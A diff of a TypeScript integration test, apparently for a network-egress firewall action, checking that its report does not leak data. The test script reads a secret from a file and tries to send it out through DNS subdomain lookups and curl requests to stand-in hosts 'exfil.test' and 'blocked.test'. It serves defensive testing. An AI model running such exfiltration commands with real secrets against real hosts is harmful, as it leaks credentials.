@@ -8,7 +8,7 @@
  * blocked for the right reason (the DNS forwarder and Squid).
  */
 import { randomBytes } from 'node:crypto'
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { runAction, type ActionRun } from '../helpers/action.js'
@@ -19,11 +19,13 @@ import { describeWith } from '../helpers/require-tool.js'
 /** Hex, as an encoder would produce: never a plausible host label. */
 const SECRET = `7${randomBytes(9).toString('hex')}`
 
+/** The data comes from a file in the workspace, as a secret would: never in the script. */
 const SCRIPT = [
-  `getent hosts ${SECRET}.exfil.test || true`,
-  `getent hosts ${SECRET}-2.exfil.test || true`,
-  `curl -s -o /dev/null "http://${SECRET}.blocked.test/"`,
-  `curl -s -o /dev/null "http://blocked.test/${SECRET}-path?q=${SECRET}"`
+  'S=$(cat secret.txt)',
+  'getent hosts "$S.exfil.test" || true',
+  'getent hosts "$S-2.exfil.test" || true',
+  'curl -s -o /dev/null "http://$S.blocked.test/"',
+  'curl -s -o /dev/null "http://blocked.test/$S-path?q=$S"'
 ].join('\n')
 
 /** The step log without the command's own output (between the stop-commands markers). */
@@ -48,6 +50,7 @@ describeWith({ root: true, docker: true }, 'the report is not an exfiltration ch
   beforeAll(async () => {
     ensureLab()
     dir = mkdtempSync(join(tmpdir(), 'awf-privacy-'))
+    writeFileSync(join(dir, 'secret.txt'), SECRET)
     const inputs = { 'allow-domains': 'allowed.test', 'dns-servers': LAB_RESOLVER, run: SCRIPT }
     hidden = await runAction('main', inputs, dir)
     full = await runAction('main', { ...inputs, 'report-detail': 'full' }, dir)
